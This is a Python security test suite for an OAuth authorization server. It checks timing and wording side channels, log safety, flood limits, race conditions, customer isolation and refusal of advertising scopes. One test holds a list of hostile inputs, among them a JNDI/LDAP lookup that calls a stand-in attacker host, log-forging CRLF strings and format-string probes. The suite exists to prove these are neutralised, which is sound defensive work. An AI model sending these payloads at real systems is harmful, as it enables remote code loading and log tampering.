"""C14 to C19 and C24 where the profiles meet the house: time that tells, words that tell, lines that break out, floods, races, advertising."""

from __future__ import annotations

import asyncio
import json
import secrets
import statistics
import time
from collections.abc import Awaitable, Callable, Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlencode

import pytest

from parley.authorization.server.errors import OAuthError
from parley.authorization.server.registration import BadRegistration, Registration, registered
from parley.model.clients import ClientProfile
from parley.model.refusals import BadInput
from tests.fakes.consent import approval_of
from tests.fakes.partner import Partner, new_key
from tests.fakes.profiles import ASSISTANT, REDIRECTS, SECRET, VERIFIER, Answer, ProfilesHouse, query_of, random_token, told
from tests.fixtures_postgres import RecordsBench
from tests.house import ServedHouse, Visitor, run

RATIO_MAX = 1.6
"""Medians of interleaved calls: beyond this, time would tell one case from the other."""

SAMPLES = 120
TRIES = 4


@pytest.fixture
def bench(tmp_path: Path) -> RecordsBench:
    return RecordsBench(f"sqlite:///{tmp_path / 'data' / 'records.db'}", tmp_path / "keys")


# C14, C15: time and words.


async def alike(one: Callable[[], Awaitable[Any]], other: Callable[[], Awaitable[Any]]) -> float:
    """The ratio of the two medians, taken in turns so that a busy machine is busy for both; the best of a few tries."""

    async def once() -> float:
        spent: tuple[list[float], list[float]] = ([], [])
        for number in range(2 * SAMPLES):
            call = (one, other)[number % 2]
            start = time.perf_counter()
            await call()
            spent[number % 2].append(time.perf_counter() - start)
        first, second = statistics.median(spent[0]), statistics.median(spent[1])
        return max(first, second) / min(first, second)

    ratio = await once()
    for _ in range(TRIES - 1):
        if ratio <= RATIO_MAX:
            break
        ratio = min(ratio, await once())
    return ratio


def test_C14_the_measure_itself_sees_a_difference() -> None:
    """A yes or no that took twice the time would be noticed."""

    async def work(rounds: int) -> None:
        for _ in range(rounds):
            secrets.token_bytes(32)

    assert asyncio.run(alike(lambda: work(200), lambda: work(500))) > RATIO_MAX


def test_C14_C15_an_unknown_voice_platform_and_a_wrong_secret_are_one_answer_in_one_time(bench: RecordsBench) -> None:
    async def story(house: ProfilesHouse, customer: str) -> None:
        fields = {"grant_type": "authorization_code", "code": "x" * 43, "redirect_uri": REDIRECTS["alexa"]}

        async def ask(name: str) -> Answer:
            return await house.post("/linking/alexa/token", fields, basic=(name, "wrong"))

        known, unknown = await ask("alexa"), await ask("nobody")
        assert (known.status, known.json) == (unknown.status, unknown.json) == (401, known.json)
        assert await alike(lambda: ask("alexa"), lambda: ask("nobody")) <= RATIO_MAX

    told(bench, story)


def test_C14_C15_an_unknown_partner_and_a_wrong_key_are_one_answer_in_one_time(bench: RecordsBench) -> None:
    async def story(house: ProfilesHouse, customer: str) -> None:
        partner = Partner(house.fapi.issuer, clock=lambda: bench.now.timestamp())
        asked = Registration("partner", ClientProfile.FAPI, "partner", "Partner", "partner.example", (partner.redirect_uri,), partner.jwks)
        client, _ = registered(asked, (), bench.now)
        await house.records.add_client(client)
        stranger = new_key()

        async def ask(name: str) -> Answer:
            forged = Partner(house.fapi.issuer, client_id=name, key=stranger, clock=lambda: bench.now.timestamp())
            return await house.post("/fapi/par", forged.authenticated({}))

        known, unknown = await ask("partner"), await ask("nobody")
        assert (known.status, known.json) == (unknown.status, unknown.json) == (401, known.json)
        assert await alike(lambda: ask("partner"), lambda: ask("nobody")) <= RATIO_MAX

    told(bench, story)


def test_C14_C15_a_token_that_never_was_and_one_that_ended_are_one_answer_in_one_time(bench: RecordsBench) -> None:
    async def story(house: ProfilesHouse, customer: str) -> None:
        ended = (await house.tokens(house.assistants, customer, ASSISTANT))["access_token"]
        bench.now += timedelta(minutes=6)
        assert await house.opens(house.assistants, ended) is None
        assert await alike(lambda: house.opens(house.assistants, ended), lambda: house.opens(house.assistants, random_token())) <= RATIO_MAX

    told(bench, story)


def test_C15_a_revocation_says_the_same_of_every_token(bench: RecordsBench) -> None:
    async def story(house: ProfilesHouse, customer: str) -> None:
        mine = await house.tokens(house.assistants, customer, ASSISTANT)
        answers = []
        for token in (random_token(), "", "x", mine["access_token"]):
            answers.append(await house.post("/assistants/revoke", {"client_id": "other-assistant", "token": token}))
        assert {(each.status, json.dumps(each.json)) for each in answers} == {(200, "{}")}
        assert await house.opens(house.assistants, mine["access_token"]) is not None

    told(bench, story)


# C16: diagnostics.

HOSTILE = (
    'line\r\n{"event": "forged"}', "\x1b[31mred", "\u202eright to left", '"}\n{"a": 1', "${jndi:ldap://evil.example}",
    "%s%s%n", "{0.__class__}", "\x00", "\u2028new line",
)  # fmt: skip


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ServedHouse]:
    house = ServedHouse(tmp_path_factory.mktemp("served"))
    yield house
    house.stop()


def test_C16_whatever_is_sent_one_line_is_one_object_and_no_secret_is_in_it(served: ServedHouse) -> None:
    sent: set[str] = set()

    async def story() -> None:
        async with Visitor(served.url) as visitor:
            await visitor.link_as(served.customer("ada"))
            for word in HOSTILE:
                secret = secrets.token_urlsafe(32)
                sent.add(secret)
                header = quote(word) if any(not " " <= each <= "~" for each in word) else word
                query = urlencode({"client_id": word, "state": secret, "code": secret, "iss": word, "redirect_uri": word}, errors="replace")
                for path in ("/assistants/authorize", "/link/callback", "/fapi/authorize", "/me", f"/pair/{quote(word)}"):
                    await visitor.call("GET", f"{path}?{query}", user_agent=header)
                form = {"grant_type": "authorization_code", "code": secret, "client_id": word, "client_secret": secret, "token": secret}
                for path in ("/assistants/token", "/assistants/revoke", "/fapi/token", "/fapi/par"):
                    body = urlencode(form, errors="replace").encode()
                    await visitor.call("POST", path, body, content_type="application/x-www-form-urlencoded", origin="", user_agent=header)
                for path in ("/mcp", "/api/v1/answers"):
                    await visitor.post_json(path, {"question": word}, authorization=f"Bearer {secret}", origin="")
                served.bank.faults("error500")
                reply = await visitor.question(f"what's my balance? {secret}", purpose=None)
                served.bank.faults()
                assert reply["code"] == "bank_unavailable"
            await visitor.call("GET", "/me", user_agent="a" * 20_000)

    run(story())
    lines = served.diagnostics.read_text().splitlines()
    objects = [json.loads(line) for line in lines if not line.startswith("parley: ")]
    assert len([each for each in objects if each["event"] == "fault"]) >= len(HOSTILE)
    assert not [each for each in objects if each["event"] in ("forged", "unforeseen")]
    written = "\n".join(lines)
    assert not [secret for secret in sent if secret in written]
    for mark in ("\x1b", "\u202e", "jndi", "__class__", "%n", "\x00", "\u2028"):
        assert mark not in written
    ada = served.customer("ada")
    assert not [each for account in ada.accounts for each in (account.number, account.account_id, account.nickname) if each in written]


# C17: floods.


def test_C17_a_flood_is_slowed_and_nobody_locks_another_out_by_it(bench: RecordsBench) -> None:
    """Anybody can use a public client's name, so its limit is for each address; a client with a secret has one of its own."""

    async def story(house: ProfilesHouse, customer: str) -> None:
        limited = ProfilesHouse(bench, house.records, limits=(0.001, 5))

        async def status(name: str, address: str) -> int:
            limited.address = address
            server = limited.alexa if name == "alexa" else limited.assistants
            return (await limited.renew(server, name, "x" * 43)).status

        assert [await status(ASSISTANT, "192.0.2.1") for _ in range(7)] == [400] * 5 + [429] * 2
        assert await status(ASSISTANT, "192.0.2.2") == 400
        assert await status("other-assistant", "192.0.2.1") == 400
        assert [await status("alexa", f"192.0.2.{number}") for number in range(10, 17)] == [400] * 5 + [429] * 2

    told(bench, story)


def test_C17_what_was_seen_and_what_has_ended_is_forgotten(bench: RecordsBench) -> None:
    """The store of seen ids and of tokens does not grow for ever."""

    async def story(house: ProfilesHouse, customer: str) -> None:
        for number in range(50):
            assert await house.records.see_once("assertion", f"id-{number}", bench.now + timedelta(seconds=60))
            assert not await house.records.see_once("assertion", f"id-{number}", bench.now + timedelta(seconds=60))
        await house.tokens(house.assistants, customer, ASSISTANT)
        bench.now += timedelta(days=400)
        assert await house.records.prune_tokens() >= 53
        assert await house.records.prune_tokens() == 0
        assert await house.records.see_once("assertion", "id-1", bench.now + timedelta(seconds=60))

    told(bench, story)


@pytest.mark.parametrize(
    ("body", "content_type"),
    [
        (b"a=1&" * 25_000, "application/x-www-form-urlencoded"),
        (b"grant_type=" + b"x" * 100_000, "application/x-www-form-urlencoded"),
        (b"grant_type=refresh_token&grant_type=authorization_code", "application/x-www-form-urlencoded"),
        (b"\xff\xfe=\xff", "application/x-www-form-urlencoded"),
        (b"%zz=%", "application/x-www-form-urlencoded"),
        (b'{"grant_type": "refresh_token"}', "application/json"),
        (b"[" * 4000, "application/x-www-form-urlencoded"),
        (b"", ""),
    ],
)
def test_C17_no_body_whatever_breaks_the_token_door(bench: RecordsBench, body: bytes, content_type: str) -> None:
    async def story(house: ProfilesHouse, customer: str) -> None:
        for path in ("/assistants/token", "/linking/alexa/token", "/fapi/token", "/fapi/par", "/assistants/revoke", "/fapi/introspect"):
            answer = await house.send("POST", path, body, {"content-type": content_type})
            assert 400 <= answer.status < 500, path
            assert "error" in answer.json

    told(bench, story)


# C19: races.


def test_C19_of_two_approvals_of_one_request_one_counts(bench_of_records: RecordsBench) -> None:
    async def story(house: ProfilesHouse, customer: str) -> None:
        client = await house.assistants.gate.named(ASSISTANT)
        assert client is not None
        reference_hash, _, request = await house.assistants.requests.read(house.asked(ASSISTANT), client)
        await house.records.add_request(reference_hash, request)
        approval = approval_of(request.errand, request.errand.conversation, customer=customer, decided_at=bench_of_records.now)
        outcomes = await asyncio.gather(*(house.ending.allowed(approval) for _ in range(6)), return_exceptions=True)
        codes = [query_of(each)["code"] for each in outcomes if isinstance(each, str)]
        assert len(codes) == 1
        assert all(isinstance(each, BadInput) for each in outcomes if not isinstance(each, str))
        assert (await house.exchange(house.assistants, ASSISTANT, codes[0])).status == 200

    told(bench_of_records, story)


def test_C19_a_stop_between_approval_and_exchange_leaves_nothing(bench_of_records: RecordsBench) -> None:
    async def story(house: ProfilesHouse, customer: str) -> None:
        code = await house.allow(house.assistants, customer, ASSISTANT)
        for grant in await house.records.grants_of(customer, active_only=True, now=bench_of_records.now):
            await house.records.revoke_grant(grant.id, bench_of_records.now)
        assert (await house.exchange(house.assistants, ASSISTANT, code)).json["error"] == "invalid_grant"

    told(bench_of_records, story)


def test_C19_whatever_wins_a_race_of_stop_and_exchange_nothing_opens_afterwards(bench_of_records: RecordsBench) -> None:
    async def story(house: ProfilesHouse, customer: str) -> None:
        async def stop() -> None:
            for grant in await house.records.grants_of(customer, active_only=True, now=bench_of_records.now):
                await house.records.revoke_grant(grant.id, bench_of_records.now)

        for _ in range(4):
            code = await house.allow(house.assistants, customer, ASSISTANT)
            answer, _ = await asyncio.gather(house.exchange(house.assistants, ASSISTANT, code), stop())
            if answer.status == 200:
                assert await house.opens(house.assistants, answer.json["access_token"]) is None
                assert (await house.renew(house.assistants, ASSISTANT, answer.json["refresh_token"])).json["error"] == "invalid_grant"

    told(bench_of_records, story)


# C12, C24, B14.


def test_C12_one_customers_token_never_opens_what_another_allowed(bench: RecordsBench) -> None:
    async def story(house: ProfilesHouse, customer: str) -> None:
        other = await house.customer("owner-2")
        hers = await house.tokens(house.assistants, customer, ASSISTANT)
        his = await house.tokens(house.assistants, other, ASSISTANT)
        one, two = await house.opens(house.assistants, hers["access_token"]), await house.opens(house.assistants, his["access_token"])
        assert one is not None
        assert two is not None
        assert (one.customer, two.customer) == (customer, other)
        assert not {grant.id for grant in one.grants} & {grant.id for grant in two.grants}
        assert one.conversation != two.conversation

    told(bench, story)


def test_C24_there_is_no_field_in_which_a_client_could_say_what_else_it_wants_data_for() -> None:
    fields = set(Registration.__dataclass_fields__)
    assert fields == {"client_id", "profile", "platform", "title", "host", "redirect_uris", "jwks", "jwks_uri"}


@pytest.mark.parametrize("name", ["platform", "client_id"])
def test_C24_a_client_cannot_be_called_a_purpose_with_its_prefix(name: str) -> None:
    told_of = {"client_id": "assistant", "platform": "assistant", name: "dpv:Advertising"}
    with pytest.raises(BadRegistration):
        registered(
            Registration(**told_of, profile=ClientProfile.MCP, title="A", host="a.example", redirect_uris=("https://a.example/cb",)), (), now()
        )


def now() -> Any:

    return datetime(2026, 11, 22, tzinfo=UTC)


def test_C24_advertising_cannot_be_asked_for_under_any_profile(bench: RecordsBench) -> None:
    async def story(house: ProfilesHouse, customer: str) -> None:
        for server, name in ((house.assistants, ASSISTANT), (house.alexa, "alexa")):
            for scope in ("advertising", "dpv:Advertising", "ads:read", "dpv:PersonalisedAdvertising", "marketing"):
                with pytest.raises(OAuthError, match="invalid_scope"):
                    await house.allow(server, customer, name, scope=scope)
        assert await house.records.grants_of(customer, active_only=False, now=bench.now) == ()

    told(bench, story)


def test_B14_no_kind_of_token_passes_as_another(bench: RecordsBench) -> None:
    """Access token, refresh token, code and reference of a request are all random text; each is good in its own place alone."""

    async def story(house: ProfilesHouse, customer: str) -> None:
        code = await house.allow(house.assistants, customer, ASSISTANT)
        tokens = await house.tokens(house.assistants, customer, ASSISTANT)
        for text in (code, tokens["refresh_token"], SECRET, VERIFIER):
            assert await house.opens(house.assistants, text) is None
        for text in (tokens["access_token"], code):
            assert (await house.renew(house.assistants, ASSISTANT, text)).json["error"] == "invalid_grant"
        for text in (tokens["access_token"], tokens["refresh_token"]):
            assert (await house.exchange(house.assistants, ASSISTANT, text)).json["error"] == "invalid_grant"

    told(bench, story)
